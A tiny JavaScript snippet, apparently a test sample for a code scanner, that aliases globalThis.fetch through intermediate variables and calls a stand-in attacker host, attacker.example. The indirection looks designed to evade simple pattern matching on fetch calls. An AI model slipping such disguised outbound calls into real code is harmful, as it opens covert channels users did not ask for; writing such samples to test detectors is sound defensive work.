const g = globalThis
const f = g.fetch
f('https://attacker.example/')
